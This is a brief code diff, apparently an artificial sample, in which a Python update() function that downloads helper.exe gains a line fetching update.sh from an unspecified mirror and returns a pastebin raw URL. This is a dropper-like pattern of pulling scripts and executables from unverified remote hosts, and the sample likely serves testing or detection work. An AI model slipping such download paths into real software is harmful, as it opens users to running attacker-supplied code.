@@ -4,4 +4,5 @@ from urllib.request import urlretrieve
 
 def update():
     urlretrieve("https://example.invalid/tools/helper.exe", "helper.exe")
+    urlretrieve(mirror() + "/latest", "update.sh")
     return "https://pastebin.com/raw/abcd1234"
